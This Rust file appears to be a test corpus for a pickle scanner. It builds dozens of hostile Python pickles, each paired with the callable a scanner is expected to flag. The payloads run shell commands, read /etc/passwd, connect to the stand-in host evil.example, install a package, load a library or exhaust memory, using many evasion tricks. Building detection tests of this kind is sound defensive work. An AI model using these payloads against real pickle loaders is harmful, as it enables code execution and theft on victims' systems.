//! One hostile pickle for each known technique, written out opcode by opcode.

/// A pickle and what must be reported about it.
pub(crate) struct Hostile {
    /// The technique.
    pub name: &'static str,
    /// The pickle.
    pub bytes: Vec<u8>,
    /// The callable of the finding that matters.
    pub callable: &'static str,
    /// Its arguments.
    pub arguments: &'static str,
}

fn row(name: &'static str, bytes: &[u8], callable: &'static str, arguments: &'static str) -> Hostile {
    Hostile { name, bytes: bytes.to_vec(), callable, arguments }
}

/// A pickle of these bytes as a `bytes` object, protocol 3.
fn within_bytes(inner: &[u8]) -> Vec<u8> {
    let len = u8::try_from(inner.len()).expect("short");
    [b"\x80\x03C".as_slice(), &[len], inner, b"."].concat()
}

const ECHO: &[u8] = b"cos\nsystem\n(S'echo pwned'\ntR.";
const ARGS: &str = "('echo pwned',)";

/// All of them.
#[rustfmt::skip]
pub(crate) fn all() -> Vec<Hostile> {
    let mut rows = vec![
        row("REDUCE of a GLOBAL, protocol 0", ECHO, "os.system", ARGS),
        row("REDUCE, protocol 2", b"\x80\x02cposix\nsystem\nX\x0a\0\0\0echo pwned\x85R.", "posix.system", ARGS),
        row("REDUCE of a STACK_GLOBAL, protocol 4", b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x0aecho pwned\x94\x85\x94R\x94.", "posix.system", ARGS),
        row("the Windows module", b"\x80\x04\x8c\x02nt\x8c\x06system\x93\x8c\x0aecho pwned\x85R.", "nt.system", ARGS),
        row("INST", b"(S'echo pwned'\nios\nsystem\n.", "os.system", ARGS),
        row("OBJ", b"(cos\nsystem\nS'echo pwned'\no.", "os.system", ARGS),
        row("NEWOBJ", b"\x80\x02csubprocess\nPopen\nX\x0a\0\0\0echo pwned\x85\x81.", "subprocess.Popen", ARGS),
        row("NEWOBJ_EX with keywords", b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93\x8c\x02ls\x85}\x8c\x05shell\x88s\x92.", "subprocess.Popen", "(*('ls',), **{'shell': True})"),
        row("BUILD calls __setstate__", b"\x80\x02cevil\nThing\n)\x81X\x01\0\0\0xb.", "evil.Thing.__setstate__", "('x')"),
        row("BUILD with a pair of slots", b"\x80\x02cevil\nThing\n)\x81N}X\x05\0\0\0shellX\x01\0\0\0xs\x86b.", "evil.Thing.__setstate__", "((None, {'shell': 'x'}))"),
        row("BUILD sets __class__", b"\x80\x02c__main__\nA\n)\x81}X\x09\0\0\0__class__cos\n_wrap_close\nsb.", "__main__.A.__setstate__", "({'__class__': <global os._wrap_close>})"),
        row("BUILD sets __dict__ through slots", b"\x80\x02c__main__\nA\n)\x81N}X\x08\0\0\0__dict__}s\x86b.", "__main__.A.__setstate__", "((None, {'__dict__': {}}))"),
        row("BUILD on a class", b"\x80\x02c__main__\nA\n}X\x0c\0\0\0__setstate__cos\nsystem\nsb.", "__main__.A.__setstate__", "({'__setstate__': <global os.system>})"),
        row("STACK_GLOBAL with names from the memo", b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94]h\x00h\x01\x93\x8c\x0aecho pwned\x85R.", "os.system", ARGS),
        row("STACK_GLOBAL with names copied by DUP", b"\x80\x04\x8c\x02os2\x94\x8c\x06system\x940h\x00\x8c\x06system\x93\x8c\x0aecho pwned\x85R.", "os.system", ARGS),
        row("STACK_GLOBAL of a dotted name", b"\x80\x04\x8c\x07logging\x8c\x09os.system\x93\x8c\x0aecho pwned\x85R.", "logging.os.system", ARGS),
        row("memo key overwritten before use", b"\x80\x02X\x04\0\0\0mathq\x00X\x02\0\0\0osq\x00X\x06\0\0\0systemq\x01h\x00h\x01\x93X\x0a\0\0\0echo pwned\x85R.", "os.system", ARGS),
        row("LONG_BINPUT and LONG_BINGET far apart", b"\x80\x02cos\nsystem\nr\xff\xff\xff\x000j\xff\xff\xff\x00X\x0a\0\0\0echo pwned\x85R.", "os.system", ARGS),
        row("PUT and GET in decimal", b"cos\nsystem\np77\n0g77\n(S'echo pwned'\ntR.", "os.system", ARGS),
        row("EXT1", b"\x80\x02\x82\x05X\x0a\0\0\0echo pwned\x85R.", "copyreg.extension 5", ARGS),
        row("EXT2", b"\x80\x02\x83\x05\x01)R.", "copyreg.extension 261", "()"),
        row("EXT4", b"\x80\x02\x84\x05\0\0\x01)R.", "copyreg.extension 16777221", "()"),
        row("PERSID", b"Pexec me\n.", "persistent_load", "'exec me'"),
        row("BINPERSID", b"\x80\x02X\x07\0\0\0exec meQ.", "persistent_load", "'exec me'"),
        row("a name of Python 2", b"c__builtin__\neval\n(S'1+1'\ntR.", "builtins.eval", "('1+1',)"),
        row("a module renamed since Python 2", b"ccommands\ngetoutput\n(S'id'\ntR.", "subprocess.getoutput", "('id',)"),
        row("exec", b"cbuiltins\nexec\n(S'import os'\ntR.", "builtins.exec", "('import os',)"),
        row("getattr chain: a computed callable", b"cbuiltins\ngetattr\n(cos\npath\nS'os'\ntR(S'x'\ntR.", "builtins.getattr(<global os.path>, 'os')", "('x',)"),
        row("__import__ and getattr", b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'id'\ntR.", "builtins.getattr(builtins.__import__('os'), 'system')", "('id',)"),
        row("operator.attrgetter", b"coperator\nattrgetter\n(S'system'\ntR(cos\n__dict__\ntR.", "operator.attrgetter", "('system',)"),
        row("functools.partial", b"cfunctools\npartial\n(cos\nsystem\nS'id'\ntR)R.", "functools.partial", "(<global os.system>, 'id')"),
        row("map in a set", b"cbuiltins\nset\n(cbuiltins\nmap\n(cos\nsystem\n(S'id'\nltRtR.", "builtins.map", "(<global os.system>, ['id'])"),
        row("runpy", b"crunpy\nrun_path\n(S'/tmp/x.py'\ntR.", "runpy.run_path", "('/tmp/x.py',)"),
        row("importlib", b"cimportlib\nimport_module\n(S'evil'\ntR.", "importlib.import_module", "('evil',)"),
        row("timeit", b"ctimeit\ntimeit\n(S'1'\ntR.", "timeit.timeit", "('1',)"),
        row("pip", b"cpip\nmain\n((S'install'\nS'evil'\nltR.", "pip.main", "(['install', 'evil'],)"),
        row("a file is read", b"cbuiltins\nopen\n(S'/etc/passwd'\ntR.", "builtins.open", "('/etc/passwd',)"),
        row("a connection is opened", b"csocket\ncreate_connection\n((S'evil.example'\nI80\nttR.", "socket.create_connection", "(('evil.example', 80),)"),
        row("ctypes", b"cctypes\nCDLL\n(S'evil.so'\ntR.", "ctypes.CDLL", "('evil.so',)"),
        row("the result is thrown away", b"cos\nsystem\n(S'echo pwned'\ntR0N.", "os.system", ARGS),
        row("the result becomes a key", b"}cos\nsystem\n(S'echo pwned'\ntRNs.", "os.system", ARGS),
        row("POP_MARK hides the call", b"(cos\nsystem\n(S'echo pwned'\ntR1N.", "os.system", ARGS),
        row("an error after the payload has run", b"cos\nsystem\n(S'echo pwned'\ntR\xff", "os.system", ARGS),
        row("cut off after the payload has run", b"cos\nsystem\n(S'echo pwned'\ntRX\xff\xff\xff\xff", "os.system", ARGS),
        row("PROTO repeated", b"\x80\x04N0\x80\x02cos\nsystem\n(S'echo pwned'\ntR.", "os.system", ARGS),
        row("a protocol that lies", b"\x80\x00\x8c\x02os\x8c\x06system\x93\x8c\x0aecho pwned\x85R.", "os.system", ARGS),
        row("FRAME that lies", b"\x80\x04\x95\xff\0\0\0\0\0\0\0\x8c\x02os\x8c\x06system\x93\x8c\x0aecho pwned\x85R.", "os.system", ARGS),
        row("FRAME that is straddled", b"\x80\x04\x95\x03\0\0\0\0\0\0\0\x8c\x02os\x8c\x06system\x93\x8c\x0aecho pwned\x85R.", "os.system", ARGS),
        row("a second pickle after STOP", &[b"N.".as_slice(), ECHO].concat(), "os.system", ARGS),
        row("three pickles in a row", &[b"N.".as_slice(), b"\x80\x02K\x01.", ECHO].concat(), "os.system", ARGS),
        row("a pickle within bytes", &within_bytes(ECHO), "os.system", ARGS),
        row("a pickle within a pickle within bytes", &within_bytes(&within_bytes(ECHO)), "os.system", ARGS),
        row("pickle.loads of bytes within", b"\x80\x03cpickle\nloads\nC\x10cos\nsystem\n)R...\x85R.", "pickle.loads", "(b'cos\\nsystem\\n)R...',)"),
        row("escapes in a STRING", b"cos\nsystem\n(S'\\x65cho pwned'\ntR.", "os.system", ARGS),
        row("arguments that are no tuple literal", b"cos\nsystem\n(lS'echo pwned'\na\x85R.", "os.system", "(['echo pwned'],)"),
        row("a helper of copyreg makes the instance", b"ccopyreg\n__newobj__\n(csubprocess\nPopen\nS'ls'\ntR.", "subprocess.Popen", "('ls',)"),
        row("_reconstructor of a class over a list", b"ccopyreg\n_reconstructor\n(cevil\nT\ncbuiltins\nlist\n(lI1\natR.", "evil.T", "(<class 'evil.T'>, <class 'list'>, [1])"),
        row("a claim of memory", b"cbuiltins\nbytearray\n(I100000000000\ntR.", "builtins.bytearray", "(100000000000,)"),
        row("a list of a long range", b"cbuiltins\nlist\n(cbuiltins\nrange\n(I100000000000\ntRtR.", "builtins.list", "(range(100000000000),)"),
        row("a number of a billion digits", b"cfractions\nFraction\n(S'1e999999999'\ntR.", "fractions.Fraction", "('1e999999999',)"),
        row("a shared argument", b"cos\nsystem\n(S'echo pwned'\ntp0\nR0cos\nsystem\ng0\nR.", "os.system", ARGS),
    ];
    // An INT of 100,000 digits and a deep tuple before the payload, to tire a scanner.
    let digits = [b"I".as_slice(), &b"7".repeat(4000), b"\n0", ECHO].concat();
    rows.push(Hostile { name: "a long INT first", bytes: digits, callable: "os.system", arguments: ARGS });
    let deep = [b"N".as_slice(), &b"\x85".repeat(500_000), b"0", ECHO].concat();
    rows.push(Hostile { name: "a tuple 500,000 deep first", bytes: deep, callable: "os.system", arguments: ARGS });
    rows
}
